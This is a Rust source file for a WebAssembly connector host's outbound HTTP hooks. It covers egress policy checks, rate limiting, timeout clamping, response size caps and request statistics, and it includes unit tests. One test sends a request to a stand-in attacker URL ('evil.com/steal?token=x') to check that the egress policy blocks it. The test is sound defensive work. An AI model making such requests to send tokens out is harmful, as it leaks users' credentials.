//! [`OutboundHooks`]: the one choke point every guest HTTP request goes through.
//!
//! Order: egress policy ([`EgressPolicy::check`]; a miss is `HttpRequestDenied` for the guest,
//! which the connector reports as `connector-error::transport`) → coordination: the call's
//! lease on its alert, if it holds one, is still its own (fencing), and a slot of the PSA
//! instance's rate budget (waits for one; see [`crate::coordination`]) → timeouts clamped to [`HostConfig::request_timeout`] →
//! the host's pooled keep-alive client ([`crate::http_client`]: a connection reused when one
//! to the instance is idle, TLS trust, certificate errors worded for the admin) → response body capped at
//! [`HostConfig::max_response_bytes`]. Logs carry method, origin and path only: never the
//! query string, header values (`Authorization`!) or bodies.
//!
//! [`HostConfig::request_timeout`]: crate::HostConfig::request_timeout
//! [`HostConfig::max_response_bytes`]: crate::HostConfig::max_response_bytes

use std::future::Future;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;
use std::time::Duration;

use http_body_util::{BodyExt, LengthLimitError, Limited};
use wasmtime_wasi_http::{Error, RequestOptions, WasiBody, WasiHttpHooks};

use crate::coordination::CallCoordination;
use crate::http_client::{ConnectionCounters, HttpClient};
use crate::policy::EgressPolicy;

/// Counts of the HTTP requests one session's guest made.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct RequestStats {
    /// Every request the guest attempted, denied ones included.
    pub total: u64,
    /// Requests the egress policy denied.
    pub denied: u64,
    /// Requests that got no response (connection refused, timeout, TLS...).
    pub failed: u64,
    /// Responses with a 1xx status.
    pub informational: u64,
    /// Responses with a 2xx status.
    pub success: u64,
    /// Responses with a 3xx status.
    pub redirection: u64,
    /// Responses with a 4xx status.
    pub client_error: u64,
    /// Responses with a 5xx status.
    pub server_error: u64,
    /// Connections the host opened (TCP connected and, over `https`, TLS handshake done).
    /// Counted per host: every session of one [`ConnectorHost`](crate::ConnectorHost)
    /// shares its connections and shows the same figure, including other sessions' requests.
    pub connections_opened: u64,
    /// Requests answered on a connection an earlier request had already used (keep-alive).
    /// Per host, like `connections_opened`.
    pub connections_reused: u64,
    /// Connections that could not be opened (refused, DNS, connect timeout, TLS handshake or
    /// certificate). Per host, like `connections_opened`.
    pub connections_failed: u64,
}

/// Lock-free counters behind [`RequestStats`], shared by the hooks and the session handle;
/// the connection counts are the host's.
#[derive(Debug, Default)]
pub(crate) struct StatsCounters {
    total: AtomicU64,
    denied: AtomicU64,
    failed: AtomicU64,
    by_class: [AtomicU64; 5],
    connections: Arc<ConnectionCounters>,
}

impl StatsCounters {
    /// A session's counters, showing the host's connection counts.
    pub(crate) fn with_connections(connections: Arc<ConnectionCounters>) -> Self {
        Self {
            connections,
            ..Self::default()
        }
    }

    fn bump(counter: &AtomicU64) {
        counter.fetch_add(1, Ordering::Relaxed);
    }

    fn record_status(&self, status: http::StatusCode) {
        let class = usize::from(status.as_u16() / 100).clamp(1, 5) - 1;
        Self::bump(&self.by_class[class]);
    }

    pub(crate) fn snapshot(&self) -> RequestStats {
        let get = |c: &AtomicU64| c.load(Ordering::Relaxed);
        RequestStats {
            total: get(&self.total),
            denied: get(&self.denied),
            failed: get(&self.failed),
            informational: get(&self.by_class[0]),
            success: get(&self.by_class[1]),
            redirection: get(&self.by_class[2]),
            client_error: get(&self.by_class[3]),
            server_error: get(&self.by_class[4]),
            connections_opened: get(&self.connections.opened),
            connections_reused: get(&self.connections.reused),
            connections_failed: get(&self.connections.failed),
        }
    }
}

/// The wasi-http hooks of one session: policy, rate budget, timeouts, response cap, stats.
pub struct OutboundHooks {
    policy: Arc<EgressPolicy>,
    coordination: Arc<CallCoordination>,
    stats: Arc<StatsCounters>,
    http: Arc<HttpClient>,
    request_timeout: Duration,
    max_response_bytes: u64,
}

impl OutboundHooks {
    pub(crate) fn new(
        policy: Arc<EgressPolicy>,
        coordination: Arc<CallCoordination>,
        stats: Arc<StatsCounters>,
        http: Arc<HttpClient>,
        request_timeout: Duration,
        max_response_bytes: u64,
    ) -> Self {
        Self {
            policy,
            coordination,
            stats,
            http,
            request_timeout,
            max_response_bytes,
        }
    }
}

type IoFuture = Box<dyn Future<Output = Result<(), Error>> + Send>;
type SendFuture =
    Box<dyn Future<Output = Result<(http::Response<WasiBody>, IoFuture), Error>> + Send>;

impl WasiHttpHooks for OutboundHooks {
    fn send_request(
        &mut self,
        request: http::Request<WasiBody>,
        options: Option<RequestOptions>,
        _fut: IoFuture,
    ) -> SendFuture {
        StatsCounters::bump(&self.stats.total);
        let method = request.method().clone();
        let path = request.uri().path().to_string();
        let origin = match self.policy.check(request.uri()) {
            Ok(origin) => origin,
            Err(denied) => {
                StatsCounters::bump(&self.stats.denied);
                let target = crate::policy::request_origin(request.uri())
                    .map_or_else(|_| "<invalid>".to_string(), |o| o.to_string());
                tracing::warn!(%method, %target, %path, reason = %denied, "connector request denied by egress policy");
                // Consume (and drop) what the guest writes, so that it reads the denial from the
                // response rather than a closed request-body stream.
                let body = request.into_body();
                let timeout = self.request_timeout;
                return Box::new(async move {
                    let _ = tokio::time::timeout(timeout, discard(body)).await;
                    Err(Error::HttpRequestDenied)
                });
            }
        };
        let options = clamp(options, self.request_timeout);
        let coordination = self.coordination.clone();
        let stats = self.stats.clone();
        let http = self.http.clone();
        let max = self.max_response_bytes;
        Box::new(async move {
            let instance = origin.to_string();
            let slot = match coordination.before_request(&instance).await {
                Ok(slot) => slot,
                Err(err) => {
                    StatsCounters::bump(&stats.failed);
                    tracing::warn!(%method, %origin, %path, error = %err, "connector request not sent");
                    return Err(Error::InternalError(Some(format!("psa host: {err}"))));
                }
            };
            tracing::debug!(%method, %origin, %path, "connector request");
            let sent = http.send(request, options, &instance).await;
            coordination.after_request(&instance, slot).await;
            let response = match sent {
                Ok(ok) => ok,
                Err(err) => {
                    StatsCounters::bump(&stats.failed);
                    tracing::info!(%method, %origin, %path, error = %err, "connector request failed");
                    return Err(err);
                }
            };
            stats.record_status(response.status());
            tracing::debug!(%method, %origin, %path, status = response.status().as_u16(), "connector response");
            let declared = response
                .headers()
                .get(http::header::CONTENT_LENGTH)
                .and_then(|v| v.to_str().ok())
                .and_then(|v| v.parse::<u64>().ok());
            if declared.is_some_and(|len| len > max) {
                tracing::warn!(%method, %origin, %path, limit = max, "connector response body exceeds the host's limit");
                return Err(Error::HttpResponseBodySize(declared));
            }
            let limit = usize::try_from(max).unwrap_or(usize::MAX);
            let response = response.map(|body| {
                Limited::new(body, limit)
                    .map_err(|err| match err.downcast::<Error>() {
                        Ok(err) => *err,
                        Err(err) if err.is::<LengthLimitError>() => {
                            Error::HttpResponseBodySize(None)
                        }
                        Err(err) => Error::InternalError(Some(err.to_string())),
                    })
                    .boxed_unsync()
            });
            // The pool drives the connection in its own task: nothing left for the caller.
            Ok((response, Box::new(async { Ok(()) }) as IoFuture))
        })
    }
}

/// Reads a body to its end, keeping nothing.
async fn discard(mut body: WasiBody) {
    while let Some(Ok(_)) = body.frame().await {}
}

/// The guest's timeouts, each capped at `max` (and set to `max` when the guest gave none).
fn clamp(options: Option<RequestOptions>, max: Duration) -> RequestOptions {
    let cap = |d: Option<Duration>| Some(d.map_or(max, |d| d.min(max)));
    let o = options.unwrap_or_default();
    RequestOptions {
        connect_timeout: cap(o.connect_timeout),
        first_byte_timeout: cap(o.first_byte_timeout),
        between_bytes_timeout: cap(o.between_bytes_timeout),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use bytes::Bytes;
    use http_body_util::Full;

    fn hooks(allowed: &[&str], max_response_bytes: u64) -> (OutboundHooks, Arc<StatsCounters>) {
        let mut policy = EgressPolicy::new(true);
        for url in allowed {
            policy.allow(url).unwrap();
        }
        let coordination = crate::coordination::HostCoordination::new(
            None,
            None,
            Duration::from_secs(30),
            Duration::from_secs(2),
        );
        let http = Arc::new(HttpClient::new(&crate::HostConfig::default()).unwrap());
        let stats = Arc::new(StatsCounters::with_connections(http.counters.clone()));
        let hooks = OutboundHooks::new(
            Arc::new(policy),
            Arc::new(CallCoordination::new(Arc::new(coordination))),
            stats.clone(),
            http,
            Duration::from_secs(2),
            max_response_bytes,
        );
        (hooks, stats)
    }

    fn request(uri: &str) -> http::Request<WasiBody> {
        let body = Full::new(Bytes::new())
            .map_err(|never: std::convert::Infallible| -> Error { match never {} })
            .boxed_unsync();
        http::Request::get(uri).body(body).unwrap()
    }

    async fn send(
        hooks: &mut OutboundHooks,
        uri: &str,
    ) -> Result<(http::Response<WasiBody>, IoFuture), Error> {
        let fut = hooks.send_request(request(uri), None, Box::new(async { Ok(()) }));
        Box::into_pin(fut).await
    }

    #[test]
    fn timeouts_are_clamped() {
        let max = Duration::from_secs(30);
        let o = clamp(None, max);
        assert_eq!(o.connect_timeout, Some(max));
        let o = clamp(
            Some(RequestOptions {
                connect_timeout: Some(Duration::from_secs(5)),
                first_byte_timeout: Some(Duration::from_secs(600)),
                between_bytes_timeout: None,
            }),
            max,
        );
        assert_eq!(o.connect_timeout, Some(Duration::from_secs(5)));
        assert_eq!(o.first_byte_timeout, Some(max));
        assert_eq!(o.between_bytes_timeout, Some(max));
    }

    #[tokio::test]
    async fn denied_request_never_leaves_the_host() {
        let (mut hooks, stats) = hooks(&["https://acme.halopsa.com"], 1024);
        let err = send(&mut hooks, "https://evil.com/steal?token=x")
            .await
            .err()
            .unwrap();
        assert!(matches!(err, Error::HttpRequestDenied));
        let s = stats.snapshot();
        assert_eq!((s.total, s.denied, s.failed), (1, 1, 0));
    }

    /// A one-shot HTTP/1.1 server on loopback answering with `body`.
    async fn serve_once(body: &'static str, content_length: bool) -> std::net::SocketAddr {
        use tokio::io::{AsyncReadExt, AsyncWriteExt};
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = listener.local_addr().unwrap();
        tokio::spawn(async move {
            let (mut sock, _) = listener.accept().await.unwrap();
            let mut buf = [0u8; 4096];
            let _ = sock.read(&mut buf).await;
            let head = if content_length {
                format!(
                    "HTTP/1.1 200 OK\r\ncontent-length: {}\r\nconnection: close\r\n\r\n",
                    body.len()
                )
            } else {
                "HTTP/1.1 200 OK\r\nconnection: close\r\n\r\n".to_string()
            };
            let _ = sock.write_all(head.as_bytes()).await;
            let _ = sock.write_all(body.as_bytes()).await;
            let _ = sock.shutdown().await;
        });
        addr
    }

    #[tokio::test]
    async fn allowed_request_is_sent_and_counted() {
        let addr = serve_once("hello", true).await;
        let base = format!("http://{addr}");
        let (mut hooks, stats) = hooks(&[&base], 1024);
        let (response, io) = send(&mut hooks, &format!("{base}/api/x")).await.unwrap();
        tokio::spawn(Box::into_pin(io));
        assert_eq!(response.status(), 200);
        let body = response.into_body().collect().await.unwrap().to_bytes();
        assert_eq!(&body[..], b"hello");
        let s = stats.snapshot();
        assert_eq!((s.total, s.success, s.denied), (1, 1, 0));
    }

    #[tokio::test]
    async fn declared_oversized_body_is_refused() {
        let addr = serve_once("0123456789", true).await;
        let base = format!("http://{addr}");
        let (mut hooks, _) = hooks(&[&base], 4);
        let err = send(&mut hooks, &format!("{base}/")).await.err().unwrap();
        assert!(matches!(err, Error::HttpResponseBodySize(Some(10))));
    }

    #[tokio::test]
    async fn streamed_oversized_body_fails_while_reading() {
        let addr = serve_once("0123456789", false).await;
        let base = format!("http://{addr}");
        let (mut hooks, _) = hooks(&[&base], 4);
        let (response, io) = send(&mut hooks, &format!("{base}/")).await.unwrap();
        tokio::spawn(Box::into_pin(io));
        let err = response.into_body().collect().await.err().unwrap();
        assert!(matches!(err, Error::HttpResponseBodySize(None)));
    }
}
